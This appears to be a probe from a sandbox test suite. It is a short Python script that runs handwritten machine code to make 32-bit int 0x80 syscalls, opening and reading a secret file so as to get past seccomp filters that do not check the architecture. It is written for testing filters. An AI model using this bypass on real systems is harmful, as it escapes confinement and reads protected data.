# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Enter the kernel by the 32-bit gate, whose call numbers differ from those that a filter lists.

Known from seccomp filters that forget to check the architecture.
"""

# act: read
# needs: x86_64

import ctypes
import mmap

# mov eax, edi; push rbx; mov ebx, esi; mov ecx, edx; mov edx, r8d... each in 32-bit registers
code = bytes.fromhex('53 89f8 89f3 4189c8 89d1 4489c2 cd80 5b c3'.replace(' ', ''))
MAP_32BIT = 0x40
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
memory = mmap.mmap(-1, 8192, flags=flags, prot=7)
memory.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
low = address + 4096
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(
    address)
path = SECRET_FILE.encode() + b'\0'
memory[4096:4096 + len(path)] = path
fd = call(5, low, 0, 0)
count = call(3, fd & 0xffffffff, low + 1024, 2048)
print(memory[5120:5120 + max(0, count)])
